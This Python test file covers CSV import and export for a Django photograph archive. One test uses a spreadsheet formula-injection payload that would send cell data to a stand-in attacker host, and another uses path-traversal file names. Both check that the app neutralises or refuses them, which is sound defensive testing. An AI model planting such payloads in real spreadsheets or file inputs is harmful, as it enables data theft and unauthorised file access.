"""CSV import (dry run, background run, all-or-nothing rows, files from a ZIP or the import
folder) and export (round trip without change)."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.test import Client

from apps.collections import selectors, services
from apps.collections.models import CsvImport, MetadataChange, Photograph, RightsStatement
from tests.support import images
from tests.support.collections import CollectionFactory, PhotographFactory, upload

pytestmark = pytest.mark.django_db
HEADER = ["dc:identifier", "dc:title", "dc:date", "dc:subject", "dc:rights", "collection", "file"]


def csv_bytes(rows, header=HEADER) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_dry_run_reports_every_error_by_row_and_column_and_writes_nothing(fonds, archivist, media_files):
    PhotographFactory(collection=fonds, identifier="OLD-1", title="Old", date="1920")
    PhotographFactory(collection=fonds, identifier="OLD-2", title="Same")
    rows = [
        ["NEW-1", "Pier", "circa 1920", "Piers|Boats", "", "harbour", "scans/new1.jpg"],          # row 2: create
        ["NEW-2", "Bad date", "the roaring twenties", "", "", "harbour", "new2.jpg"],           # row 3
        ["NEW-3", "Bad rights", "", "", "http://example.org/mine", "harbour", "new2.jpg"],       # row 4
        ["NEW-4", "No file", "", "", "", "harbour", ""],                                         # row 5
        ["NEW-5", "Lost collection", "", "", "", "nowhere", "new2.jpg"],                         # row 6
        ["NEW-1", "Repeated", "", "", "", "harbour", "new2.jpg"],                                # row 7
        ["NEW-6", "Not in zip", "", "", "", "harbour", "missing.jpg"],                           # row 8
        ["NEW-7", "Corrupt", "", "", "", "harbour", "broken.jpg"],                               # row 9
        ["OLD-1", "Renamed", "1920", "", "", "harbour", ""],                                     # row 10: update
        ["OLD-2", "Same", "", "", "", "harbour", ""],                                            # row 11: unchanged
        ["", "No identifier", "", "", "", "harbour", "new2.jpg"],                                # row 12
    ]
    files = zip_bytes({"scans/new1.jpg": images.jpeg_bytes(seed=1), "new2.jpg": images.jpeg_bytes(seed=2), "broken.jpg": images.truncated_jpeg()})

    report = services.csv_import_plan(csv_file=io.BytesIO(csv_bytes(rows)), zip_file=io.BytesIO(files), user=archivist)

    assert [r.action for r in report.rows] == ["create"] + ["error"] * 7 + ["update", "unchanged", "error"]
    assert {(e["row"], e["column"]) for e in report.errors} == {
        (3, "dc:date"), (4, "dc:rights"), (5, "file"), (6, "collection"), (7, "dc:identifier"), (8, "file"), (9, "file"), (12, "dc:identifier"),
    }
    assert "roaring twenties" in next(e["message"] for e in report.errors if e["row"] == 3)
    assert "Row 2" in next(e["message"] for e in report.errors if e["row"] == 7)
    assert report.rows[8].changed == ["title"]
    assert report.counts == {"create": 1, "update": 1, "unchanged": 1, "error": 8}
    assert Photograph.objects.count() == 2 and not MetadataChange.objects.exists()
    assert media_files() == []


def test_header_problems_refuse_the_whole_file(archivist):
    with pytest.raises(ValidationError, match="dc:identifier"):
        services.csv_import_plan(csv_file=io.BytesIO(b"title,file\nx,y\n"), user=archivist)
    with pytest.raises(ValidationError, match="UTF-8"):
        services.csv_import_plan(csv_file=io.BytesIO("dc:identifier\nCafé\n".encode("latin-1")), user=archivist)
    report = services.csv_import_plan(csv_file=io.BytesIO(b"dc:identifier;Colour;dc:title\n"), user=archivist)
    assert report.warnings == [{"row": 1, "column": "Colour", "message": "Unknown column, ignored."}]


def test_rows_are_all_or_nothing(fonds, archivist, media_files):
    PhotographFactory(collection=fonds, identifier="OLD-1", title="Old title", date="1920")
    rows = [
        ["NEW-1", "Good", "1921", "", "", "harbour", "good.jpg"],
        ["NEW-2", "Good metadata, corrupt file", "1921", "", "", "harbour", "broken.jpg"],
        ["NEW-3", "Good file, bad date", "1921-15", "", "", "harbour", "other.jpg"],
        ["OLD-1", "New title", "not a date", "", "", "harbour", ""],
    ]
    files = zip_bytes({"good.jpg": images.jpeg_bytes(seed=1), "broken.jpg": images.truncated_jpeg(), "other.jpg": images.jpeg_bytes(seed=3)})
    csv_import = services.csv_import_start(csv_file=upload("i.csv", csv_bytes(rows)), zip_file=upload("f.zip", files), user=archivist, enqueue=False)

    csv_import = services.csv_import_run(csv_import_id=csv_import.pk)

    assert csv_import.status == CsvImport.Status.SUCCEEDED
    assert (csv_import.created_count, csv_import.updated_count, csv_import.error_count) == (1, 0, 3)
    assert set(Photograph.objects.values_list("identifier", flat=True)) == {"OLD-1", "NEW-1"}
    assert Photograph.objects.get(identifier="OLD-1").title == "Old title"  # the valid title of a bad row is not applied
    masters = [f for f in media_files() if f.startswith("masters/")]
    assert masters == [Photograph.objects.get(identifier="NEW-1").master.name]


def test_background_run_through_the_api_with_progress_and_report(fonds, archivist, rq_queues, rq_worker, django_capture_on_commit_callbacks):
    client = Client()
    client.force_login(archivist)
    rows = [[f"N-{i}", f"Photo {i}", "192X", "Ships", RightsStatement.NO_KNOWN_COPYRIGHT, "", f"{i}.png"] for i in range(3)]
    rows.append(["N-9", "Broken", "", "", "", "", "nope.png"])
    files = zip_bytes({f"{i}.png": images.png_bytes(10 + i, 10) for i in range(3)})

    dry = client.post("/api/csv-imports/", {"csv_file": upload("i.csv", csv_bytes(rows)), "zip_file": upload("f.zip", files), "collection": "harbour", "dry_run": "true"})
    assert dry.status_code == 200 and dry.json()["counts"] == {"create": 3, "update": 0, "unchanged": 0, "error": 1}
    assert not Photograph.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        started = client.post("/api/csv-imports/", {"csv_file": upload("i.csv", csv_bytes(rows)), "zip_file": upload("f.zip", files), "collection": "harbour"})
    assert started.status_code == 202 and started.json()["status"] == "queued"
    assert started["Location"] == f"/api/csv-imports/{started.json()['id']}/"

    with django_capture_on_commit_callbacks(execute=True):  # the import's rows enqueue derivatives
        rq_worker()
    rq_worker()

    polled = client.get(started["Location"]).json()
    assert polled["status"] == "succeeded"
    assert (polled["processed_rows"], polled["created_count"], polled["error_count"]) == (4, 3, 1)
    assert Photograph.objects.filter(derivatives_status="ready").count() == 3
    assert MetadataChange.objects.count() == 0
    report = b"".join(client.get(polled["report_url"]).streaming_content).decode()
    assert "N-9" in report and "nope.png" in report and "not in the ZIP" in report


def test_import_permissions(fonds, viewer, colorist):
    for user in (viewer, colorist):
        client = Client()
        client.force_login(user)
        assert client.post("/api/csv-imports/", {"csv_file": upload("i.csv", csv_bytes([])), "dry_run": "true"}).status_code == 403
        assert client.get("/api/csv-imports/").status_code == 403
    assert Client().get("/api/csv-imports/").status_code == 401


def test_files_under_the_import_folder_and_nowhere_else(fonds, archivist, settings, tmp_path):
    root = tmp_path / "import"
    (root / "box1").mkdir(parents=True)
    (root / "box1" / "a.jpg").write_bytes(images.jpeg_bytes(seed=4))
    (tmp_path / "secret.jpg").write_bytes(images.jpeg_bytes(seed=5))
    settings.IMPORT_ROOT = root
    rows = [
        ["A", "", "", "", "", "harbour", "box1/a.jpg"],
        ["B", "", "", "", "", "harbour", "../secret.jpg"],
        ["C", "", "", "", "", "harbour", str(tmp_path / "secret.jpg")],
        ["D", "", "", "", "", "harbour", str(root / "box1" / "a.jpg")],
    ]
    report = services.csv_import_plan(csv_file=io.BytesIO(csv_bytes(rows)), user=archivist)
    assert [r.action for r in report.rows] == ["create", "error", "error", "error"]
    assert "outside the import folder" in report.rows[1].errors[0]["message"]
    assert "outside the import folder" in report.rows[2].errors[0]["message"]
    assert "Row 2 already brings the same file" in report.rows[3].errors[0]["message"]


def test_export_then_import_changes_nothing(fonds, archivist):
    series = CollectionFactory(parent=fonds, slug="series-b")
    for i, (collection, name) in enumerate([(fonds, "a.jpg"), (series, "b.png"), (series, "c.tif")]):
        data = {"a.jpg": images.jpeg_bytes(seed=i), "b.png": images.png_bytes(), "c.tif": images.tiff16_bytes()}[name]
        services.photograph_ingest(collection=collection, file=upload(name, data), filename=name, user=archivist, metadata={
            "title": f'Title, with "quotes" {i}', "creator": "Müller, Anna", "date": ["circa 1920", "1914/1918", ""][i],
            "description": "Line one\nLine two; semicolon", "subjects": ["Harbours", "Ships, sailing"][: i + 1],
            "place": "Valparaíso", "source": "Glass plate", "language": "es", "rights_uri": RightsStatement.CC0 if i else "",
            "rights_note": "Donated 1990",
        })
    client = Client()
    client.force_login(archivist)
    exported = b"".join(client.get(f"/api/collections/{fonds.slug}/export/").streaming_content)
    assert exported.decode().splitlines()[0].startswith("dc:identifier,dc:title,dc:creator,dc:date,")
    assert exported.decode().count("\n") > 3

    report = services.csv_import_plan(csv_file=io.BytesIO(exported), user=archivist)
    assert report.counts == {"create": 0, "update": 0, "unchanged": 3, "error": 0}, [r.changed for r in report.rows]

    csv_import = services.csv_import_start(csv_file=upload("export.csv", exported), user=archivist, enqueue=False)
    csv_import = services.csv_import_run(csv_import_id=csv_import.pk)
    assert (csv_import.unchanged_count, csv_import.updated_count, csv_import.error_count) == (3, 0, 0)
    assert not MetadataChange.objects.exists()

    search_export = b"".join(client.get("/api/photographs/export/", {"q": "quotes", "collection": series.slug}).streaming_content).decode()
    assert len(list(csv.DictReader(io.StringIO(search_export)))) == 2


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_reimported_unchanged(fonds, archivist):
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    services.photograph_ingest(collection=fonds, file=upload("f.png", images.png_bytes()), filename="f.png", user=archivist,
                               metadata={"title": title, "description": "-5 degrees, @noon", "creator": "+Studio"})
    out = io.StringIO()
    services.csv_export(photographs=Photograph.objects.all(), out=out)
    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["dc:title"] == "'" + title
    assert (row["dc:description"], row["dc:creator"]) == ("'-5 degrees, @noon", "'+Studio")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())

    report = services.csv_import_plan(csv_file=io.BytesIO(out.getvalue().encode()), user=archivist)
    assert report.counts["unchanged"] == 1, [r.changed for r in report.rows]


def test_updates_from_csv_write_history(fonds, archivist):
    photograph = PhotographFactory(collection=fonds, identifier="X-1", title="Before", subjects=["A"])
    csv_import = services.csv_import_start(
        csv_file=upload("u.csv", csv_bytes([["X-1", "After", "", "A|B"]], header=["dc:identifier", "title", "dc:date", "subjects"])),
        collection=fonds, user=archivist, enqueue=False,
    )
    services.csv_import_run(csv_import_id=csv_import.pk)
    changes = {(c.field, c.old_value, c.new_value, c.source) for c in selectors.photograph_history(user=archivist, photograph=photograph)}
    assert changes == {("title", "Before", "After", "csv"), ("subjects", "A", "A | B", "csv")}


@pytest.mark.parametrize("n", [1, 8])
def test_import_list_query_count_is_bounded(fonds, archivist, n, django_assert_max_num_queries):
    for _ in range(n):
        services.csv_import_start(csv_file=upload("i.csv", csv_bytes([])), collection=fonds, user=archivist, enqueue=False)
    client = Client()
    client.force_login(archivist)
    with django_assert_max_num_queries(6):  # session, user, permissions (2), count, page
        body = client.get("/api/csv-imports/").json()
    assert body["count"] == n and "report" not in body["results"][0]


def test_imports_whose_job_was_lost_are_requeued_then_failed_and_foreground_ones_left_alone(fonds, archivist, rq_queues, rq_worker, django_capture_on_commit_callbacks):
    from archive_site.rqjobs import reconcile_rows

    rows = [[f"L-{i}", f"Lost {i}", "1920", "", "", "harbour", f"{i}.png"] for i in range(3)]
    files = zip_bytes({f"{i}.png": images.png_bytes(12 + i, 10) for i in range(3)})
    # The worker got through the first row before it was killed: that row is in the archive.
    first = services.csv_import_start(csv_file=upload("a.csv", csv_bytes(rows[:1])), zip_file=upload("f.zip", files), user=archivist, enqueue=False)
    assert services.csv_import_run(csv_import_id=first.pk).created_count == 1
    with django_capture_on_commit_callbacks(execute=True):
        lost = services.csv_import_start(csv_file=upload("b.csv", csv_bytes(rows)), zip_file=upload("f.zip", files), user=archivist)
    assert lost.job_id and rq_queues["default"].fetch_job(lost.job_id) is not None
    rq_queues["default"].fetch_job(lost.job_id).delete()
    CsvImport.objects.filter(pk=lost.pk).update(status=CsvImport.Status.RUNNING, attempts=1)
    foreground = services.csv_import_start(csv_file=upload("c.csv", csv_bytes(rows)), user=archivist, enqueue=False)

    with django_capture_on_commit_callbacks(execute=True):
        actions = reconcile_rows(CsvImport, grace_seconds=0)
    assert [(action.row_id, action.action) for action in actions] == [(lost.pk, "requeued")]
    assert "no longer in Redis" in actions[0].reason
    foreground.refresh_from_db()
    assert foreground.status == CsvImport.Status.QUEUED  # run by import_photos itself: never reconciled

    with django_capture_on_commit_callbacks(execute=True):
        rq_worker()
    lost.refresh_from_db()
    assert lost.status == CsvImport.Status.SUCCEEDED and lost.attempts == 2
    assert (lost.created_count, lost.unchanged_count, lost.error_count) == (2, 1, 0)
    assert Photograph.objects.filter(identifier__startswith="L-").count() == 3

    # Lost again after its last attempt: failed, saying what to do.
    long_ago = lost.finished_at - timedelta(hours=1)  # its worker died long ago (a running row with a fresh heartbeat is alive)
    CsvImport.objects.filter(pk=lost.pk).update(status=CsvImport.Status.RUNNING, attempts=lost.max_attempts, heartbeat_at=long_ago)
    rq_queues["default"].fetch_job(lost.job_id).delete()
    assert [(action.row_id, action.action) for action in reconcile_rows(CsvImport, grace_seconds=0)] == [(lost.pk, "failed")]
    lost.refresh_from_db()
    assert lost.status == CsvImport.Status.FAILED and lost.finished_at
    assert lost.error.startswith(f"Failed after {lost.max_attempts} attempts") and "again" in lost.error


def test_a_subject_containing_the_csv_separator_is_refused_so_subjects_round_trip(fonds, archivist):
    """"|" separates subject terms in CSV, the portal and the admin: a term that contains it
    would come back from an export as two terms, so the API refuses it with a clear message."""
    photograph = PhotographFactory(collection=fonds, subjects=["Harbours"])
    client = Client()
    client.force_login(archivist)
    response = client.patch(f"/api/photographs/{photograph.pk}/", {"subjects": ["Ships|Tugs", "Quays"]}, content_type="application/json")
    assert response.status_code == 400, response.content
    assert "|" in response.json()["error"]["fields"]["subjects"][0]
    photograph.refresh_from_db()
    assert photograph.subjects == ["Harbours"]

    with pytest.raises(ValidationError) as error:
        services.photograph_update(photograph=photograph, data={"subjects": ["A|B"]}, user=archivist, source=MetadataChange.Source.API)
    assert "separates" in str(error.value)

    services.photograph_update(photograph=photograph, data={"subjects": ["Ships, sailing", "Tugs"]}, user=archivist, source=MetadataChange.Source.API)
    out = io.StringIO()
    services.csv_export(photographs=Photograph.objects.filter(pk=photograph.pk), out=out)
    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["dc:subject"] == "Ships, sailing|Tugs"
    report = services.csv_import_plan(csv_file=io.BytesIO(out.getvalue().encode()), user=archivist)
    assert report.counts["unchanged"] == 1, [r.changed for r in report.rows]
